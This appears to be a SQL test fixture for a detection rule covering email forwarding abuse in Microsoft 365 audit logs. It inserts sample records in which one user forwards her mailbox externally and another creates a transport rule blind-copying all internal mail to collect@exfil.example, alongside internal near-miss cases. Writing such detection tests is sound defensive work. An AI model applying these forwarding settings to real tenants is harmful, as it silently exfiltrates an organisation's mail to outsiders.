-- settings: {"TenantDomains": ["contoso.com", "contoso.onmicrosoft.com"]}
-- Fires: kate forwards her mailbox to kate@proton.example (medium); mallory adds a transport rule that
--   blind-copies all mail to collect@exfil.example (high).
-- Near-miss: nearmiss-admin forwards a leaver's mailbox to his manager (internal, via contoso.mail.onmicrosoft.com)
--   and clears another forward.
INSERT INTO fx_unified_audit (id, created_at, record_type, operation, user_id, client_ip, parameters) VALUES
    ('mfx-1', TIMESTAMP '2026-03-10 09:00:00', 'ExchangeAdmin', 'Set-Mailbox', 'kate@contoso.com', '203.0.113.230',
     '[{"name":"Identity","value":"kate@contoso.com"},{"name":"ForwardingSmtpAddress","value":"smtp:kate@proton.example"},{"name":"DeliverToMailboxAndForward","value":"False"}]'),
    ('mfx-2', TIMESTAMP '2026-03-10 10:00:00', 'ExchangeAdmin', 'New-TransportRule', 'mallory@contoso.com', '203.0.113.231',
     '[{"name":"Name","value":"Archive"},{"name":"BlindCopyTo","value":"collect@exfil.example"},{"name":"SentToScope","value":"InOrganization"}]'),
    ('mfx-3', TIMESTAMP '2026-03-10 11:00:00', 'ExchangeAdmin', 'Set-Mailbox', 'nearmiss-admin@contoso.com', '198.51.100.230',
     '[{"name":"Identity","value":"leaver@contoso.com"},{"name":"ForwardingSmtpAddress","value":"smtp:manager@contoso.mail.onmicrosoft.com"}]'),
    ('mfx-4', TIMESTAMP '2026-03-10 12:00:00', 'ExchangeAdmin', 'Set-Mailbox', 'nearmiss-admin@contoso.com', '198.51.100.230',
     '[{"name":"Identity","value":"other@contoso.com"},{"name":"ForwardingSmtpAddress","value":""}]');
